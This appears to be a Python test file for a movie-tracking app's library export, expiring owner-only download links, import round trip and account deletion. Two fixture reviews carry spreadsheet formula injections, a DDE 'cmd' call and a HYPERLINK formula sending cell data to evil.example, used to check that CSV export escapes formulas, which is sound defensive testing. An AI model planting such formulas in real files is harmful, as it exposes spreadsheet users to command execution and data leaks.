"""The viewer's library export over HTTP (Letterboxd's CSVs zipped, or the whole JSON), behind a
link for the owner alone that expires; and self-service deleteAccount."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select, update
from starlette.applications import Starlette

from reelgraph.caching.upstream_data import cache_key
from reelgraph.library_files.csv_safety import FORMULA_TRIGGERS, escape_cell, unescape_cell
from reelgraph.persistence.models import (
    ChatSessionRow,
    DownloadRow,
    LoginSessionRow,
    RoleRow,
    UserRoleRow,
    UserRow,
    WatchEventRow,
)
from tests.helpers import PASSWORD, GraphQLClient, error_codes
from tests.library_fixtures import Member, member, promoted, rate, rows_of_user, set_kind

MATRIX, RELOADED, INCEPTION, INTERSTELLAR = 603, 604, 27205, 157336
AMELIE = 194  # a non-ASCII title
FORREST_GUMP = 13

EXPORT = """
mutation($format: ExportFormat!) { exportLibrary(format: $format) { url expiresAt errors { code message } } }
"""
DELETE_ACCOUNT = "mutation($p: String!) { deleteAccount(password: $p) { ok errors { code field message } } }"
CREATE_REVIEW = """
mutation($movie: Int!, $body: String!, $rating: Float) {
  createReview(movieId: $movie, body: $body, rating: $rating) { review { id } errors { code } }
}
"""
TRACK_VIEW = "mutation($movie: Int!) { trackView(movieId: $movie) { ok } }"
# What a spreadsheet would run: the example, and a link that leaks data when clicked.
COMMAND_REVIEW = "=cmd|' /C calc'!A0 (the plot is thin)"
HYPERLINK_REVIEW = '@HYPERLINK("http://evil.example/?d="&A1, "more")'


def bearer(token: str) -> dict[str, str]:
    return {"authorization": f"Bearer {token}"}


def path_of(url: str) -> str:
    return httpx.URL(url).path


async def export(gql: GraphQLClient, user: Member, format: str) -> dict[str, Any]:
    body = await gql(EXPORT, {"format": format}, token=user.token)
    assert "errors" not in body, body
    payload: dict[str, Any] = body["data"]["exportLibrary"]
    assert payload["errors"] == [] and payload["url"], payload
    return payload


async def download(client: httpx.AsyncClient, user: Member, payload: dict[str, Any]) -> httpx.Response:
    response = await client.get(path_of(payload["url"]), headers=bearer(user.token))
    assert response.status_code == 200, response.text
    return response


def csv_rows(archive: zipfile.ZipFile, name: str) -> tuple[list[str], list[dict[str, str]]]:
    text = archive.read(name).decode("utf-8")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


async def watched_at(app: Starlette, user: Member, movie: int, *moments: datetime) -> None:
    """The user's views of ``movie`` at these moments (trackView only records 'now')."""
    async with app.state.services.sessions.begin() as session:
        await session.execute(
            WatchEventRow.__table__.delete().where(
                WatchEventRow.user_id == user.pk, WatchEventRow.movie_id == movie
            )
        )
        session.add_all(WatchEventRow(user_id=user.pk, movie_id=movie, watched_at=at) for at in moments)


async def review(gql: GraphQLClient, user: Member, movie: int, body: str, rating: float | None) -> None:
    result = await gql(CREATE_REVIEW, {"movie": movie, "body": body, "rating": rating}, token=user.token)
    assert result["data"]["createReview"]["errors"] == [], result


async def a_library(gql: GraphQLClient, app: Starlette, user: Member) -> None:
    """Ratings, seen and watch-later movies, two viewings of one movie, two hostile reviews."""
    await rate(gql, user, MATRIX, 4.5)
    await rate(gql, user, RELOADED, 3.0)
    await rate(gql, user, AMELIE, 5.0)
    await set_kind(gql, user, INTERSTELLAR, "SEEN")
    await set_kind(gql, user, INCEPTION, "WATCH_LATER")
    await review(gql, user, MATRIX, COMMAND_REVIEW, 4.5)
    await review(gql, user, RELOADED, HYPERLINK_REVIEW, None)
    assert (await gql(TRACK_VIEW, {"movie": MATRIX}, token=user.token))["data"]["trackView"]["ok"]
    await watched_at(
        app,
        user,
        MATRIX,
        datetime(2020, 1, 2, 21, 30, tzinfo=UTC),
        datetime(2021, 5, 1, 23, 59, tzinfo=UTC),
    )
    await watched_at(app, user, AMELIE, datetime(2019, 12, 24, 8, 0, tzinfo=UTC))


async def test_the_letterboxd_export_holds_ratings_watch_dates_watchlist_and_reviews(
    gql: GraphQLClient, client: httpx.AsyncClient, app: Starlette
) -> None:
    user = await member(gql)
    await a_library(gql, app, user)
    before = datetime.now(UTC)
    payload = await export(gql, user, "LETTERBOXD")
    expires = datetime.fromisoformat(payload["expiresAt"])
    assert (
        before
        < expires
        <= datetime.now(UTC) + timedelta(seconds=app.state.services.settings.library_export_ttl_seconds)
    )

    response = await download(client, user, payload)
    assert response.headers["content-type"] == "application/zip"
    assert response.headers["content-disposition"].startswith('attachment; filename="reelgraph-letterboxd-')
    today = datetime.now(UTC).date().isoformat()
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert sorted(archive.namelist()) == [
            "diary.csv",
            "ratings.csv",
            "reviews.csv",
            "watched.csv",
            "watchlist.csv",
        ]
        files = {name: csv_rows(archive, name) for name in archive.namelist()}

    columns, ratings = files["ratings.csv"]
    assert columns == ["Date", "Name", "Year", "Letterboxd URI", "Rating", "tmdbID", "imdbID"]
    assert {row["tmdbID"]: (row["Rating"], row["Date"]) for row in ratings} == {
        str(MATRIX): ("4.5", today),
        str(RELOADED): ("3", today),
        str(AMELIE): ("5", today),
    }
    matrix = next(row for row in ratings if row["tmdbID"] == str(MATRIX))
    assert (matrix["Name"], matrix["Year"], matrix["imdbID"], matrix["Letterboxd URI"]) == (
        "The Matrix",
        "1999",
        "tt0133093",
        "",
    )
    amelie = next(row for row in ratings if row["tmdbID"] == str(AMELIE))
    assert amelie["Name"] == "Amélie" and amelie["Year"] == "2001"

    columns, watched = files["watched.csv"]
    assert columns == ["Date", "Name", "Year", "Letterboxd URI", "tmdbID", "imdbID"]
    assert sorted(int(row["tmdbID"]) for row in watched) == sorted([MATRIX, RELOADED, AMELIE, INTERSTELLAR])
    _, watchlist = files["watchlist.csv"]
    assert [(row["tmdbID"], row["Name"], row["Date"]) for row in watchlist] == [
        (str(INCEPTION), "Inception", today)
    ]

    columns, diary = files["diary.csv"]
    assert columns == [
        "Date",
        "Name",
        "Year",
        "Letterboxd URI",
        "Rating",
        "Rewatch",
        "Tags",
        "Watched Date",
        "tmdbID",
        "imdbID",
    ]
    # Oldest first; the second viewing is a rewatch, and carries today's rating.
    assert [(row["tmdbID"], row["Watched Date"], row["Rewatch"], row["Rating"]) for row in diary] == [
        (str(AMELIE), "2019-12-24", "", "5"),
        (str(MATRIX), "2020-01-02", "", ""),
        (str(MATRIX), "2021-05-01", "Yes", "4.5"),
    ]

    columns, reviews = files["reviews.csv"]
    assert columns == [
        "Date",
        "Name",
        "Year",
        "Letterboxd URI",
        "Rating",
        "Rewatch",
        "Review",
        "Tags",
        "Watched Date",
        "tmdbID",
        "imdbID",
    ]
    # The formulas come out as text: a leading quote, which spreadsheets show and never run.
    assert {row["tmdbID"]: (row["Review"], row["Rating"]) for row in reviews} == {
        str(MATRIX): ("'" + COMMAND_REVIEW, "4.5"),
        str(RELOADED): ("'" + HYPERLINK_REVIEW, ""),
    }
    for name, (_, rows) in files.items():
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(FORMULA_TRIGGERS), (name, cell)


async def test_the_link_works_for_the_owner_only_and_expires(
    gql: GraphQLClient, client: httpx.AsyncClient, app: Starlette
) -> None:
    owner = await member(gql)
    someone = await member(gql, name="Eve")
    await rate(gql, owner, MATRIX, 4.0)
    payload = await export(gql, owner, "JSON")
    path = path_of(payload["url"])

    assert (await client.get(path)).status_code == 404  # anonymous
    assert (await client.get(path, headers=bearer(someone.token))).status_code == 404
    assert (await client.get(path + "x", headers=bearer(owner.token))).status_code == 404  # tampered
    response = await client.get(path, headers=bearer(owner.token))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    assert json.loads(response.content)["ratings"][0]["movie"]["tmdbId"] == MATRIX
    # Someone else's export is theirs: it never shows the owner's library.
    theirs = await download(client, someone, await export(gql, someone, "JSON"))
    assert json.loads(theirs.content)["ratings"] == []

    # Time passes past expiresAt (the signature alone would still be valid): the file is gone.
    async with app.state.services.sessions.begin() as session:
        await session.execute(
            update(DownloadRow)
            .where(DownloadRow.owner_id == owner.pk)
            .values(expires_at=datetime.now(UTC) - timedelta(seconds=1))
        )
    assert (await client.get(path, headers=bearer(owner.token))).status_code == 404

    assert error_codes(await gql(EXPORT, {"format": "JSON"})) == ["UNAUTHENTICATED"]
    assert error_codes(await gql(EXPORT, {"format": "CSV"}, token=owner.token)) == [
        "GRAPHQL_VALIDATION_FAILED"
    ]


async def test_a_new_export_replaces_the_previous_one_and_exports_are_rate_limited(
    gql: GraphQLClient, client: httpx.AsyncClient, app: Starlette
) -> None:
    user = await member(gql)
    await rate(gql, user, MATRIX, 4.0)
    letterboxd = path_of((await export(gql, user, "LETTERBOXD"))["url"])
    first = path_of((await export(gql, user, "JSON"))["url"])
    await rate(gql, user, RELOADED, 2.5)
    second = path_of((await export(gql, user, "JSON"))["url"])
    # One file per format: the older JSON is gone, the newer has the new rating, the zip stays.
    assert (await client.get(first, headers=bearer(user.token))).status_code == 404
    newest = await client.get(second, headers=bearer(user.token))
    assert {item["movie"]["tmdbId"] for item in json.loads(newest.content)["ratings"]} == {MATRIX, RELOADED}
    assert (await client.get(letterboxd, headers=bearer(user.token))).status_code == 200

    allowed = int(app.state.services.settings.library_export_rate_limit.split("/")[0])
    for _ in range(allowed - 3):
        await export(gql, user, "JSON")
    refused = await gql(EXPORT, {"format": "LETTERBOXD"}, token=user.token)
    assert error_codes(refused) == ["RATE_LIMITED"]
    assert refused["errors"][0]["extensions"]["retryAfter"] > 0
    assert (await export(gql, await member(gql), "JSON"))["url"]  # someone else's budget is theirs


async def test_the_json_export_holds_every_part(
    gql: GraphQLClient, client: httpx.AsyncClient, app: Starlette
) -> None:
    user = await member(gql, name="Zoë")
    await a_library(gql, app, user)
    await set_kind(gql, user, INTERSTELLAR, "FAVORITE")
    profile = await gql(
        'mutation { updateProfile(input: {region: "FR", dateOfBirth: "1990-04-01", locale: "fr-FR"}) '
        "{ errors { code } } }",
        token=user.token,
    )
    assert profile["data"]["updateProfile"]["errors"] == []
    preferences = await gql(
        "mutation { updatePreferences(input: {favoriteGenres: [878], dislikedGenres: [27], "
        "favoritePeople: [6384], favoriteMovies: [603]}) { errors { code } } }",
        token=user.token,
    )
    assert preferences["data"]["updatePreferences"]["errors"] == []
    chat = await gql(
        'mutation { chat(message: "90s sci-fi with Keanu Reeves") { session { id } errors { code } } }',
        token=user.token,
    )
    assert chat["data"]["chat"]["errors"] == []

    response = await download(client, user, await export(gql, user, "JSON"))
    assert response.headers["content-disposition"].startswith('attachment; filename="reelgraph-library-')
    assert b"argon2" not in response.content  # never the password hash
    document = json.loads(response.content.decode("utf-8"))
    assert set(document) == {
        "format",
        "version",
        "exportedAt",
        "profile",
        "preferences",
        "interactions",
        "ratings",
        "reviews",
        "watchHistory",
        "chatSessions",
        "signIns",
        "imports",
    }
    assert (document["format"], document["version"]) == ("reelgraph-library", 1)
    profile_part = document["profile"]
    assert profile_part["name"] == "Zoë" and profile_part["email"].endswith("@example.com")
    assert (profile_part["region"], profile_part["dateOfBirth"], profile_part["locale"]) == (
        "FR",
        "1990-04-01",
        "fr-FR",
    )
    assert profile_part["roles"] == ["USER"]
    assert document["preferences"] == {
        "favoriteGenres": [878],
        "dislikedGenres": [27],
        "favoritePeople": [6384],
        "favoriteMovies": [{"tmdbId": MATRIX, "imdbId": "tt0133093", "title": "The Matrix", "year": 1999}],
    }
    kinds = sorted((item["movie"]["tmdbId"], item["kind"]) for item in document["interactions"])
    assert kinds == sorted(
        [
            (MATRIX, "SEEN"),
            (RELOADED, "SEEN"),
            (AMELIE, "SEEN"),
            (INTERSTELLAR, "SEEN"),
            (INTERSTELLAR, "FAVORITE"),
            (INCEPTION, "WATCH_LATER"),
        ]
    )
    # The profile's French locale does not translate the export: titles are English.
    assert {item["movie"]["tmdbId"]: item["movie"]["title"] for item in document["interactions"]}[
        INCEPTION
    ] == "Inception"
    assert {(item["movie"]["tmdbId"], item["value"]) for item in document["ratings"]} == {
        (MATRIX, 4.5),
        (RELOADED, 3.0),
        (AMELIE, 5.0),
    }
    assert {(item["movie"]["tmdbId"], item["body"], item["rating"]) for item in document["reviews"]} == {
        (MATRIX, COMMAND_REVIEW, 4.5),  # the JSON keeps the text as written
        (RELOADED, HYPERLINK_REVIEW, None),
    }
    assert [(item["movie"]["tmdbId"], item["watchedAt"]) for item in document["watchHistory"]] == [
        (AMELIE, "2019-12-24T08:00:00+00:00"),
        (MATRIX, "2020-01-02T21:30:00+00:00"),
        (MATRIX, "2021-05-01T23:59:00+00:00"),
    ]
    [session] = document["chatSessions"]
    assert session["filters"] and [message["role"] for message in session["messages"]][:1] == ["user"]
    assert session["messages"][0]["content"] == "90s sci-fi with Keanu Reeves"
    assert [sign_in["revokedAt"] for sign_in in document["signIns"]] == [None]
    assert document["imports"] == []  # see the round trip below for one


async def test_uncached_movies_are_named_from_the_database_without_calling_tmdb(
    gql: GraphQLClient, client: httpx.AsyncClient, app: Starlette
) -> None:
    user = await member(gql)
    await rate(gql, user, FORREST_GUMP, 4.0)
    fetcher = app.state.services.reader.fetcher
    key = cache_key("movie", FORREST_GUMP, "en-US")
    await fetcher.delete(key)  # as if the cached details had long expired

    document = json.loads((await download(client, user, await export(gql, user, "JSON"))).content)
    assert document["ratings"][0]["movie"] == {
        "tmdbId": FORREST_GUMP,
        "imdbId": "tt0109830",
        "title": "Forrest Gump",
        "year": 1994,
    }
    # Nothing was fetched (a fetch would have cached the details again).
    assert await fetcher.peek_many([key]) == [None]


async def library_counts(app: Starlette, user: Member) -> dict[str, int]:
    """How many rows of each table belong to the user (the library's, then the account's)."""
    counts = await rows_of_user(app, user.pk)
    owned: dict[str, Any] = {
        "users": UserRow.id,
        "chat_sessions": ChatSessionRow.user_id,
        "login_sessions": LoginSessionRow.user_id,
        "downloads": DownloadRow.owner_id,
    }
    async with app.state.services.sessions() as session:
        for name, column in owned.items():
            query = select(func.count()).where(column == user.pk)
            counts[name] = (await session.execute(query)).scalar_one()
    return counts


async def test_delete_account_with_a_wrong_password_changes_nothing(
    gql: GraphQLClient, app: Starlette
) -> None:
    user = await member(gql)
    await a_library(gql, app, user)
    await export(gql, user, "JSON")
    before = await library_counts(app, user)
    assert before["ratings"] == 3 and before["downloads"] == 1 and before["users"] == 1

    result = (await gql(DELETE_ACCOUNT, {"p": PASSWORD + "!"}, token=user.token))["data"]["deleteAccount"]
    assert result["ok"] is False
    assert [(error["code"], error["field"]) for error in result["errors"]] == [
        ("INVALID_CREDENTIALS", ["password"])
    ]
    assert await library_counts(app, user) == before
    assert (await gql("{ viewer { name } }", token=user.token))["data"]["viewer"]["name"] == "Ann"
    assert error_codes(await gql(DELETE_ACCOUNT, {"p": PASSWORD})) == ["UNAUTHENTICATED"]


async def test_delete_account_removes_the_users_data_and_their_tokens_stop_working(
    gql: GraphQLClient, client: httpx.AsyncClient, app: Starlette
) -> None:
    user = await member(gql)
    other = await member(gql, name="Bob")
    await a_library(gql, app, user)
    await rate(gql, other, MATRIX, 2.0)
    link = await export(gql, user, "LETTERBOXD")
    await gql('mutation { chat(message: "comedies") { session { id } } }', token=user.token)
    email = (await gql("{ viewer { email } }", token=user.token))["data"]["viewer"]["email"]
    other_before = await library_counts(app, other)

    result = (await gql(DELETE_ACCOUNT, {"p": PASSWORD}, token=user.token))["data"]["deleteAccount"]
    assert result == {"ok": True, "errors": []}
    assert set((await library_counts(app, user)).values()) == {0}
    assert await library_counts(app, other) == other_before

    # Every token of theirs stops working, and so does the export's link.
    assert error_codes(await gql("{ viewer { id } }", token=user.token)) == ["UNAUTHENTICATED"]
    assert error_codes(await gql(EXPORT, {"format": "JSON"}, token=user.token)) == ["UNAUTHENTICATED"]
    refresh = "mutation($t: String!) { refreshToken(refreshToken: $t) { errors { code } } }"
    refreshed = await gql(refresh, {"t": user.refresh_token})
    assert refreshed["data"]["refreshToken"]["errors"] == [{"code": "INVALID_REFRESH_TOKEN"}]
    login = (
        "mutation($e: String!, $p: String!) { login(input: {email: $e, password: $p}) { errors { code } } }"
    )
    signed_in = await gql(login, {"e": email, "p": PASSWORD})
    assert signed_in["data"]["login"]["errors"] == [{"code": "INVALID_CREDENTIALS"}]
    assert (await client.get(path_of(link["url"]), headers=bearer(user.token))).status_code == 404


async def test_wrong_passwords_are_throttled_like_sign_ins(app: Starlette) -> None:
    # An address of its own: the session app's other tests sign in from 127.0.0.1.
    transport = httpx.ASGITransport(app=app, client=("10.20.30.40", 40000))
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
        gql = GraphQLClient(http)
        user = await member(gql)
        allowance = app.state.services.settings.login_failures_per_email
        for _ in range(allowance):
            wrong = await gql(DELETE_ACCOUNT, {"p": "not it"}, token=user.token)
            assert wrong["data"]["deleteAccount"]["errors"][0]["code"] == "INVALID_CREDENTIALS"
        # Past the allowance even the right password waits: a stolen token cannot guess on.
        throttled = await gql(DELETE_ACCOUNT, {"p": PASSWORD}, token=user.token)
        assert error_codes(throttled) == ["RATE_LIMITED"]
        assert (await gql("{ viewer { name } }", token=user.token))["data"]["viewer"]["name"] == "Ann"


@given(st.text())
def test_escaped_cells_never_start_a_formula_and_read_back_exactly(value: str) -> None:
    escaped = escape_cell(value)
    assert not escaped.startswith(FORMULA_TRIGGERS)
    assert unescape_cell(escaped) == value


IMPORT = """
mutation Import($file: Upload!, $source: LibrarySource!) {
  importLibrary(file: $file, source: $source) { job { status matched unmatched { row title reason } } errors { code } }
}
"""
LIBRARY = """
{ viewer {
    ratings(first: 100) { nodes { value movie { tmdbId } } }
    watchHistory(first: 100) { nodes { watchedAt movie { tmdbId } } }
    seen: interactions(kind: SEEN, first: 100) { nodes { movie { tmdbId } } }
    watchlist: interactions(kind: WATCH_LATER, first: 100) { nodes { createdAt movie { tmdbId } } }
    reviews(first: 100) { nodes { body rating movie { tmdbId } } }
} }
"""


async def library_of(gql: GraphQLClient, user: Member) -> dict[str, Any]:
    """What the viewer sees of their library, by movie (watches and dates by UTC day: the
    Letterboxd format keeps days)."""
    body = await gql(LIBRARY, token=user.token)
    assert "errors" not in body, body
    viewer = body["data"]["viewer"]

    def day(moment: str) -> str:
        return datetime.fromisoformat(moment).astimezone(UTC).date().isoformat()

    return {
        "ratings": {node["movie"]["tmdbId"]: node["value"] for node in viewer["ratings"]["nodes"]},
        "watches": sorted(
            (node["movie"]["tmdbId"], day(node["watchedAt"])) for node in viewer["watchHistory"]["nodes"]
        ),
        "seen": sorted(node["movie"]["tmdbId"] for node in viewer["seen"]["nodes"]),
        "watchlist": {
            node["movie"]["tmdbId"]: day(node["createdAt"]) for node in viewer["watchlist"]["nodes"]
        },
        "reviews": {
            node["movie"]["tmdbId"]: (node["body"], node["rating"]) for node in viewer["reviews"]["nodes"]
        },
    }


async def test_a_letterboxd_export_imported_into_a_new_account_reproduces_the_library(
    gql: GraphQLClient, client: httpx.AsyncClient, app: Starlette
) -> None:
    original = await member(gql)
    await a_library(gql, app, original)
    await set_kind(gql, original, 680, "WATCH_LATER")  # Pulp Fiction
    exported = await download(client, original, await export(gql, original, "LETTERBOXD"))

    newcomer = await member(gql, name="Newcomer")
    operations = {"query": IMPORT, "variables": {"file": None, "source": "LETTERBOXD"}}
    response = await client.post(
        "/graphql",
        data={"operations": json.dumps(operations), "map": json.dumps({"0": ["variables.file"]})},
        files={"0": ("letterboxd.zip", exported.content, "application/zip")},
        headers={**bearer(newcomer.token), "apollo-require-preflight": "true"},
    )
    body = response.json()
    assert "errors" not in body, body
    job = body["data"]["importLibrary"]["job"]
    assert job["status"] == "SUCCEEDED" and job["unmatched"] == [], job  # jobs run eagerly in tests

    before, after = await library_of(gql, original), await library_of(gql, newcomer)
    assert before["ratings"] == {MATRIX: 4.5, RELOADED: 3.0, AMELIE: 5.0}
    assert before["watches"] == [(AMELIE, "2019-12-24"), (MATRIX, "2020-01-02"), (MATRIX, "2021-05-01")]
    assert set(before["watchlist"]) == {INCEPTION, 680}
    assert after == before

    # The newcomer's own export tells of the import (never the uploaded file itself).
    document = json.loads((await download(client, newcomer, await export(gql, newcomer, "JSON"))).content)
    [record] = document["imports"]
    assert (record["source"], record["status"], record["filename"]) == (
        "LETTERBOXD",
        "SUCCEEDED",
        "letterboxd.zip",
    )
    assert record["matched"] == record["total"] > 0 and "content" not in record


async def test_the_last_admin_cannot_delete_their_account(gql: GraphQLClient, app: Starlette) -> None:
    services = app.state.services
    solo = await promoted(gql, app, "ADMIN", name="Solo")
    async with services.sessions() as session:
        admins = (
            await session.execute(
                select(UserRoleRow.user_id)
                .join(RoleRow, RoleRow.id == UserRoleRow.role_id)
                .where(RoleRow.name == "ADMIN")
            )
        ).scalars()
        others = [admin for admin in admins if admin != solo.pk]
    for other in others:  # as test_admin does: every other admin demoted
        await services.admin.revoke_role(other, "ADMIN")

    result = (await gql(DELETE_ACCOUNT, {"p": PASSWORD}, token=solo.token))["data"]["deleteAccount"]
    assert result["ok"] is False
    assert [(error["code"], error["field"]) for error in result["errors"]] == [("LAST_ADMIN", None)]
    assert (await gql("{ viewer { roles } }", token=solo.token))["data"]["viewer"]["roles"] == [
        "USER",
        "ADMIN",
    ]
